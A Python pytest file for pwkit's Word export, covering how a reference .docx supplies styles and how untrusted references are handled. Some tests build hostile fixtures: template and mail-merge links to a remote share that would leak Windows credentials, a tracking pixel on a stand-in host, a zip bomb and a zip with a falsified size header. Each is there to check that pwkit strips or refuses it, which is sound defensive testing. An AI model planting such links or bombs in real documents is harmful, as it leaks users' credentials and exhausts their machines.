"""A reference .docx (``documento.modello_word``) gives the exported document its styles."""

from __future__ import annotations

import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docx import Document as open_docx
from docx.oxml.ns import qn
from docx.shared import Pt, RGBColor
from docx.styles import BabelFish
from lxml import etree

from pwkit.render.docx.styles import REQUIRED_STYLES, style_definitions
from tests.conftest import edit, run_cli

MODELLO = "allegati/modello.docx"
#: Italian Word's styleIds of some built-in styles (names stay English).
ITALIAN_IDS = {
    "Normal": "Normale",
    "Heading1": "Titolo1",
    "Heading2": "Titolo2",
    "Heading3": "Titolo3",
    "Title": "Titolo",
    "Caption": "Didascalia",
    "ListBullet": "Puntoelenco",
    "TOCHeading": "Titolosommario",
}


def _reference(project: Path, change: Callable[[Any], None] | None = None) -> Path:
    """A reference made with python-docx: Heading 1 at 20 pt dark red, Normal in Arial."""
    document = open_docx()
    heading = document.styles["Heading 1"]
    heading.font.size = Pt(20)
    heading.font.color.rgb = RGBColor(0x99, 0x00, 0x00)
    document.styles["Normal"].font.name = "Arial"
    document.add_paragraph("Testo del modello che non deve comparire")
    if change is not None:
        change(document)
    target = project / MODELLO
    target.parent.mkdir(exist_ok=True)
    document.save(str(target))
    return target


def _use_reference(project: Path) -> None:
    text = (project / "progetto.yaml").read_text(encoding="utf-8")
    assert "documento:" not in text
    with (project / "progetto.yaml").open("a", encoding="utf-8") as f:
        f.write(f"documento:\n  modello_word: {MODELLO}\n")


def _export(project: Path, code: int = 0) -> tuple[Path, str]:
    out = project / "export" / "pw.docx"
    result = run_cli("export", project, "-o", out, code=code)
    return out, result.output


def _audit(path: Path) -> list[Any]:
    openxml_audit = pytest.importorskip("openxml_audit")
    validator = openxml_audit.OpenXmlValidator(file_format=openxml_audit.FileFormat.MICROSOFT_365)
    return [(e.error_type, e.description, e.path) for e in validator.validate(str(path)).errors]


def _style(document: Any, style_id: str) -> Any:
    return document.styles.element.find(f"{qn('w:style')}[@{qn('w:styleId')}='{style_id}']")


def _heading_1_texts(document: Any) -> list[str]:
    return [
        p.text for p in document.paragraphs if p.style is not None and p.style.name == "Heading 1"
    ]


def _section_titles(project: Path) -> list[str]:
    from pwkit.check.pipeline import check_project

    return [s.title for s in check_project(project).project.manifest.sections]


def _heading_abstract_styles(document: Any) -> list[str]:
    """The styleIds the list numbering Heading 1 (by its style) links its levels to."""
    heading = document.styles["Heading 1"].element
    num_id = heading.find(f"{qn('w:pPr')}/{qn('w:numPr')}/{qn('w:numId')}").get(qn("w:val"))
    numbering = document.part.numbering_part.element
    num = numbering.find(f"{qn('w:num')}[@{qn('w:numId')}='{num_id}']")
    abstract_id = num.find(qn("w:abstractNumId")).get(qn("w:val"))
    abstract = numbering.find(f"{qn('w:abstractNum')}[@{qn('w:abstractNumId')}='{abstract_id}']")
    return [p.get(qn("w:val")) for p in abstract.iter(qn("w:pStyle"))]


def test_required_styles_are_the_ones_pwkit_defines() -> None:
    defined = {
        style.split('w:name w:val="', 1)[1].split('"', 1)[0] for style in style_definitions(1, 2, 3)
    }
    assert {BabelFish.ui2internal(name) for name in REQUIRED_STYLES} == defined


def test_the_styles_are_data_a_changed_colour_reaches_the_document(
    example: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pwkit.render.docx import styles

    changed = tmp_path / "styles.xml"
    text = styles.STYLES_FILE.read_text(encoding="utf-8")
    heading = text[text.index('w:styleId="Heading1"') :]
    colour = heading[heading.index('<w:color w:val="') :].split('"')[1]
    changed.write_text(text.replace(heading, heading.replace(colour, "7F0037", 1)), "utf-8")
    monkeypatch.setattr(styles, "STYLES_FILE", changed)
    out, _ = _export(example)
    assert open_docx(str(out)).styles["Heading 1"].font.color.rgb == RGBColor(0x7F, 0x00, 0x37)


def test_the_references_styles_and_page_are_used(example: Path) -> None:
    _reference(example)
    _use_reference(example)
    out, _ = _export(example)
    document = open_docx(str(out))

    heading = document.styles["Heading 1"]
    assert heading.font.size == Pt(20)
    assert str(heading.font.color.rgb) == "990000"
    assert document.styles["Normal"].font.name == "Arial"
    assert _heading_1_texts(document)[: len(_section_titles(example))] == _section_titles(example)
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Testo del modello" not in text
    # pwkit's heading numbering and page breaks are kept on the reference's headings.
    ppr = _style(document, "Heading1").find(qn("w:pPr"))
    assert ppr.find(qn("w:pageBreakBefore")) is not None
    assert ppr.find(f"{qn('w:numPr')}/{qn('w:ilvl')}").get(qn("w:val")) == "0"
    assert _heading_abstract_styles(document) == ["Heading1", "Heading2", "Heading3"]
    # "TOC Heading" is based on Heading 1 in Word: it must not inherit a number.
    toc_ppr = _style(document, "TOCHeading").find(qn("w:pPr"))
    assert toc_ppr.find(qn("w:numPr")) is not None
    assert toc_ppr.find(qn("w:outlineLvl")).get(qn("w:val")) == "9"
    # The reference's page (python-docx: US Letter) is kept; the Gantt turns it sideways.
    first, *rest = document.sections
    assert (first.page_width.twips, first.page_height.twips) == (12240, 15840)
    assert any((s.page_width.twips, s.page_height.twips) == (15840, 12240) for s in rest)
    assert "Pagina" in "".join(p.text for p in first.footer.paragraphs)
    assert document.core_properties.author == "Provincia di Valdoria"
    assert _audit(out) == []


def _italian_word(document: Any) -> None:
    """Rename styleIds as Italian Word does, and every reference to them."""
    styles = document.styles.element
    for style in styles.findall(qn("w:style")):
        old = style.get(qn("w:styleId"))
        if old in ITALIAN_IDS:
            style.set(qn("w:styleId"), ITALIAN_IDS[old])
        for tag in ("w:basedOn", "w:next", "w:link"):
            ref = style.find(qn(tag))
            if ref is not None and ref.get(qn("w:val")) in ITALIAN_IDS:
                ref.set(qn("w:val"), ITALIAN_IDS[ref.get(qn("w:val"))])
    for ref in document.element.body.iter(qn("w:pStyle")):
        if ref.get(qn("w:val")) in ITALIAN_IDS:
            ref.set(qn("w:val"), ITALIAN_IDS[ref.get(qn("w:val"))])


def test_styles_are_found_by_name_in_an_italian_reference(example: Path) -> None:
    _reference(example, _italian_word)
    _use_reference(example)
    out, _ = _export(example)
    document = open_docx(str(out))

    used = {
        p._p.pPr.pStyle.val
        for p in document.paragraphs
        if p._p.pPr is not None and p._p.pPr.pStyle is not None
    }
    assert {"Titolo1", "Titolo2", "Didascalia", "Puntoelenco"} <= used
    assert not used & {"Heading1", "Heading2", "Caption", "ListBullet"}
    assert _heading_1_texts(document)[: len(_section_titles(example))] == _section_titles(example)
    assert document.styles["Heading 1"].font.size == Pt(20)
    assert _heading_abstract_styles(document) == ["Titolo1", "Titolo2", "Titolo3"]
    # pwkit's own styles are based on the reference's Normal, whatever its id.
    table_text = _style(document, "Testotabella")
    assert table_text.find(qn("w:basedOn")).get(qn("w:val")) == "Normale"
    assert _audit(out) == []


def _drop_styles(*names: str) -> Callable[[Any], None]:
    def change(document: Any) -> None:
        styles = document.styles.element
        for style in list(styles.findall(qn("w:style"))):
            if style.find(qn("w:name")).get(qn("w:val")) in names:
                styles.remove(style)

    return change


def test_styles_the_reference_lacks_get_pwkit_definitions(example: Path) -> None:
    """Decision: a missing style is added (as Pandoc does), not refused: Word saves only the
    styles a document has used, so real references rarely define Caption or List Number."""
    _reference(example, _drop_styles("caption", "List Number", "TOC Heading"))
    _use_reference(example)
    out, _ = _export(example)
    document = open_docx(str(out))

    caption = document.styles["Caption"]
    assert str(caption.font.color.rgb) == "1F3864"  # pwkit's, not python-docx's blue
    captions = [p.text for p in document.paragraphs if p.style.name == "Caption"]
    assert captions and all(c.startswith("Tabella ") for c in captions)
    assert any(p.style.name == "List Number" for p in document.paragraphs)
    assert document.styles["TOC Heading"].paragraph_format.page_break_before
    # Added styles take the reference's font (no explicit Calibri on them).
    assert _style(document, "Caption").find(f".//{qn('w:rFonts')}") is None
    assert _audit(out) == []


def test_a_reference_without_numbering_part_still_numbers_headings(example: Path) -> None:
    source = _reference(example)
    stripped = source.with_name("senza-elenchi.docx")
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(stripped, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/numbering.xml":
                continue
            if item.filename in {"word/_rels/document.xml.rels", "[Content_Types].xml"}:
                text = data.decode()
                text = re.sub(r"<(Relationship|Override)[^>]*numbering[^>]*/>", "", text)
                data = text.encode()
            zout.writestr(item, data)
    stripped.replace(source)
    _use_reference(example)
    out, _ = _export(example)
    document = open_docx(str(out))
    assert _heading_abstract_styles(document) == ["Heading1", "Heading2", "Heading3"]
    assert _audit(out) == []


def test_a_corrupt_reference_is_refused_in_italian(example: Path) -> None:
    target = example / MODELLO
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(os.urandom(2048))
    _use_reference(example)
    # The check says so (PW013), so a final export is refused like any document with errors;
    # a draft reaches the renderer, which refuses the reference with the same words.
    out, output = _export(example, code=1)
    assert "PW013" in output and "non è un documento Word (.docx) valido" in output
    result = run_cli("export", example, "-o", out, "--bozza", code=2)
    assert "Il documento di riferimento «allegati/modello.docx»" in result.output
    assert "non è un documento Word (.docx) valido" in result.output
    assert "modello_word" in result.output
    assert not out.exists()
    export = example / "export"
    assert not export.exists() or not any(export.iterdir())


def test_a_reference_outside_the_project_is_refused(example: Path, tmp_path: Path) -> None:
    _reference(example)
    _use_reference(example)
    edit(example / "progetto.yaml", f"modello_word: {MODELLO}", "modello_word: ../fuori.docx")
    (tmp_path / "fuori.docx").write_bytes((example / MODELLO).read_bytes())
    # The check refuses it (PW010); a draft reaches the renderer, which refuses it too.
    out = example / "export" / "pw.docx"
    result = run_cli("export", example, "-o", out, "--bozza", code=2)
    assert "fuori dalla cartella del progetto" in result.output
    assert not out.exists()


# -- the reference is untrusted input (#15) --------------------------------------------

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
REMOTE_TEMPLATE = "file:///\\\\host\\share\\t.dotm"


def _rezip(
    path: Path,
    change: Callable[[str, bytes], bytes | None],
    extra: dict[str, bytes] | None = None,
) -> None:
    """Rewrite the zip at ``path``: members through ``change`` (None drops one), plus ``extra``."""
    with zipfile.ZipFile(path) as zin:
        members = [(item.filename, zin.read(item.filename)) for item in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in members:
            changed = change(name, data)
            if changed is not None:
                zout.writestr(name, changed)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)


def _edit_part(part: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes | None]:
    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        assert old in data, f"{old!r} not in {part}"
        return data.replace(old, new, 1)

    return change


def _rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'
    ).encode()


def _external_reference(project: Path) -> Path:
    """A reference whose settings attach a template and a mail-merge source on a share."""
    source = _reference(project)
    settings = (
        b'<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:dataType w:val="textFile"/><w:query w:val="SELECT * FROM dati"/>'
        b'<w:dataSource r:id="rIdM"/></w:mailMerge><w:defaultTabStop'
    )
    _rezip(
        source,
        _edit_part("word/settings.xml", b"<w:defaultTabStop", settings),
        {
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rIdT" Type="{ATTACHED_TEMPLATE}" Target="{REMOTE_TEMPLATE}" '
                'TargetMode="External"/>',
                '<Relationship Id="rIdM" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/mailMergeSource" Target="file:///\\\\host\\share\\dati.txt" '
                'TargetMode="External"/>',
            ),
            "word/_rels/styles.xml.rels": _rels(
                '<Relationship Id="rIdX" Type="http://example.com/spia" '
                'Target="https://spia.example.com/pixel.png" TargetMode="External"/>'
            ),
        },
    )
    return source


def _external_relationships(path: Path) -> list[tuple[str, str, str]]:
    """(rels file, type, target) of every external relationship in the zip at ``path``."""
    from lxml import etree

    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".rels"):
                continue
            for rel in etree.fromstring(archive.read(name)):
                if rel.get("TargetMode") == "External":
                    found.append((name, rel.get("Type").rsplit("/", 1)[-1], rel.get("Target")))
    return found


def test_external_links_of_the_reference_are_dropped_with_a_warning(example: Path) -> None:
    """Word would fetch an attached template from a share, sending the user's credentials."""
    source = _external_reference(example)
    assert len(_external_relationships(source)) == 3
    _use_reference(example)
    out, output = _export(example)

    links = set(re.findall(r"\]\((https?://[^)\s]+)\)", _prose(example)))
    found = _external_relationships(out)
    assert found, "the prose's own hyperlinks are kept"
    assert {(name, kind) for name, kind, _ in found} == {
        ("word/_rels/document.xml.rels", "hyperlink")
    }
    assert {target for _, _, target in found} <= links
    with zipfile.ZipFile(out) as archive:
        settings = archive.read("word/settings.xml")
    assert b"attachedTemplate" not in settings and b"mailMerge" not in settings
    said = " ".join(output.split())
    assert "\\\\host\\share\\t.dotm" in said and "spia.example.com" in said
    assert "collegament" in said
    assert _audit(out) == []


def _prose(project: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in (project / "sezioni").glob("*.md"))


def _check_findings(project: Path, code: str) -> list[Any]:
    from pwkit.check.pipeline import check_project

    return [d for d in check_project(project).report if d.code == code]


def _modello_line(project: Path) -> int:
    lines = (project / "progetto.yaml").read_text(encoding="utf-8").split("\n")
    return next(n for n, line in enumerate(lines, start=1) if "modello_word:" in line)


def _draft(project: Path, code: int) -> str:
    out = project / "export" / "pw.docx"
    result = run_cli("export", project, "-o", out, "--bozza", code=code)
    assert out.exists() == (code == 0)
    return " ".join(result.output.split())


def test_a_reference_that_expands_beyond_the_part_limit_is_refused(example: Path) -> None:
    """60 MB of zeros make a 60 KB file: the declared size is over 50 MB per part."""
    source = _reference(example)
    with (
        zipfile.ZipFile(source, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/vuoto.bin", "w") as handle,
    ):
        block = bytes(1024 * 1024)
        for _ in range(60):
            handle.write(block)
    assert source.stat().st_size < 1024 * 1024
    _use_reference(example)

    found = _check_findings(example, "PW013")
    assert [(d.location.file, d.location.line) for d in found] == [
        ("progetto.yaml", _modello_line(example))
    ]
    assert "word/media/vuoto.bin" in found[0].message and "50 MB" in found[0].message
    said = _draft(example, 2)
    assert "troppo grande" in said and "word/media/vuoto.bin" in said and "50 MB" in said


def test_a_reference_beyond_the_total_limit_is_refused(
    example: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pwkit.load.wordpackage

    _reference(example)
    _use_reference(example)
    monkeypatch.setattr(pwkit.load.wordpackage, "MAX_TOTAL_BYTES", 200 * 1024)
    said = _draft(example, 2)
    assert "troppo grande" in said and "200 KB in tutto" in said


def test_a_reference_with_too_many_parts_is_refused(example: Path) -> None:
    source = _reference(example)
    with zipfile.ZipFile(source, "a", zipfile.ZIP_STORED) as archive:
        for n in range(5001):
            archive.writestr(f"customXml/vuoto{n}.bin", b"")
    _use_reference(example)
    (found,) = _check_findings(example, "PW013")
    assert "troppe parti" in found.message and "5.000" in found.message


def _lie_about_size(path: Path, member: str, declared: int) -> None:
    """Make the zip's index declare ``declared`` bytes for ``member`` (the data is unchanged)."""
    import struct

    data = bytearray(path.read_bytes())
    name = member.encode()
    at = -1
    while True:
        at = data.find(b"PK\x01\x02", at + 1)
        assert at >= 0, member
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + length]) == name:
            break
    struct.pack_into("<I", data, at + 24, declared)  # uncompressed size in the index
    path.write_bytes(bytes(data))


def test_a_lying_zip_header_is_refused(example: Path) -> None:
    """The index says styles.xml is 1 KB; it expands to far more: never read past the claim."""
    source = _reference(example)
    _lie_about_size(source, "word/styles.xml", 1024)
    _use_reference(example)
    (found,) = _check_findings(example, "PW013")
    assert "danneggiato" in found.message and "word/styles.xml" in found.message
    said = _draft(example, 2)
    assert "danneggiato" in said and "word/styles.xml" in said


def test_bytes_read_are_counted_whatever_the_header_says() -> None:
    """zipfile stops at the declared size; pwkit counts what it reads all the same."""
    import io

    from pwkit.load.wordpackage import Budget, read_part
    from pwkit.load.wordparts import PackageProblem

    budget = Budget(part=1000, total=5000)
    assert read_part(io.BytesIO(b"x" * 1000), "a.bin", budget) == 1000
    with pytest.raises(PackageProblem, match=r"«b\.bin» occupa più di 1 KB"):
        read_part(io.BytesIO(b"x" * 1001), "b.bin", budget)
    budget = Budget(part=4000, total=5000)
    read_part(io.BytesIO(b"x" * 3000), "c.bin", budget)
    with pytest.raises(PackageProblem, match="decompresso occupa più di 5 KB"):
        read_part(io.BytesIO(b"x" * 3000), "d.bin", budget)


def test_a_styles_part_with_the_wrong_root_is_a_message_not_a_crash(example: Path) -> None:
    source = _reference(example)
    _rezip(
        source,
        lambda name, data: (
            data.replace(b"<w:styles ", b"<w:numbering ").replace(b"</w:styles>", b"</w:numbering>")
            if name == "word/styles.xml"
            else data
        ),
    )
    _use_reference(example)
    (found,) = _check_findings(example, "PW013")
    assert "word/styles.xml" in found.message and "w:numbering" in found.message
    said = _draft(example, 2)
    assert "word/styles.xml" in said and "Errore interno" not in said


def test_a_template_or_macro_document_is_named_for_what_it_is(example: Path) -> None:
    source = _reference(example)
    _rezip(
        source,
        _edit_part(
            "[Content_Types].xml",
            b"wordprocessingml.document.main+xml",
            b"wordprocessingml.template.main+xml",
        ),
    )
    _use_reference(example)
    (found,) = _check_findings(example, "PW013")
    assert ".dotx" in found.message
    assert "Documento di Word (*.docx)" in found.hint


def test_a_folder_given_as_reference_is_called_a_folder(example: Path) -> None:
    (example / MODELLO).mkdir(parents=True)
    _use_reference(example)
    (found,) = _check_findings(example, "PW010")
    assert "è una cartella" in found.message and "non esiste" not in found.message
    said = _draft(example, 2)
    assert "è una cartella" in said and "non esiste" not in said


def test_a_fifo_given_as_reference_is_never_opened(example: Path) -> None:
    import threading

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this system")
    fifo = example / MODELLO
    fifo.parent.mkdir(exist_ok=True)
    os.mkfifo(fifo)
    _use_reference(example)
    opened: list[bool] = []

    def unblock() -> None:  # a reader blocked on the FIFO gets end-of-file: the test fails
        opened.append(True)
        with fifo.open("wb"):
            pass

    watchdog = threading.Timer(30, unblock)
    watchdog.start()
    try:
        (found,) = _check_findings(example, "PW010")
        said = _draft(example, 2)
    finally:
        watchdog.cancel()
    assert not opened
    assert "non è un file normale" in found.message
    assert "non è un file normale" in said and "non esiste" not in said


def test_check_refuses_a_reference_that_is_not_a_docx(example: Path) -> None:
    target = example / MODELLO
    target.parent.mkdir(exist_ok=True)
    target.write_text("Questo è il modello della Provincia", encoding="utf-8")
    _use_reference(example)
    result = run_cli("check", example, code=1)
    assert "PW013" in result.output
    (found,) = _check_findings(example, "PW013")
    assert (found.location.file, found.location.line) == ("progetto.yaml", _modello_line(example))
    assert "allegati/modello.docx" in found.message
    assert "non è un documento Word (.docx) valido" in found.message


def test_a_style_is_found_by_its_name_as_python_docx_finds_it() -> None:
    from docx import Document as new_document
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    from pwkit.render.docx.context import MissingStyleError, RenderContext
    from pwkit.render.docx.word import WordDocument

    theirs = new_document().styles.element
    document = WordDocument.blank()
    styles = document.styles
    ctx = RenderContext.__new__(RenderContext)
    ctx.document, ctx._styles = document, {}
    for name in ("Heading 1", "Normal", "Title", "Table Grid", "Body Text"):
        expected = theirs.get_by_name(BabelFish.ui2internal(name))
        assert expected is not None
        found = ctx.style(name)
        assert found.getparent() is styles
        assert etree.tostring(found) == etree.tostring(expected)
    with pytest.raises(MissingStyleError):
        ctx.style("Stile che non c'è")
    twice = [
        parse_xml(
            f'<w:style {nsdecls("w")} w:type="paragraph" w:styleId="{style_id}">'
            '<w:name w:val="Stile aggiunto"/></w:style>'
        )
        for style_id in ("Primo", "Secondo")
    ]
    styles.extend(twice)  # added after the first look-ups: seen, the first of the name wins
    assert ctx.style("Stile aggiunto").get(qn("w:styleId")) == "Primo"
    styles.remove(twice[0])  # removed: no longer found
    assert ctx.style("Stile aggiunto").get(qn("w:styleId")) == "Secondo"
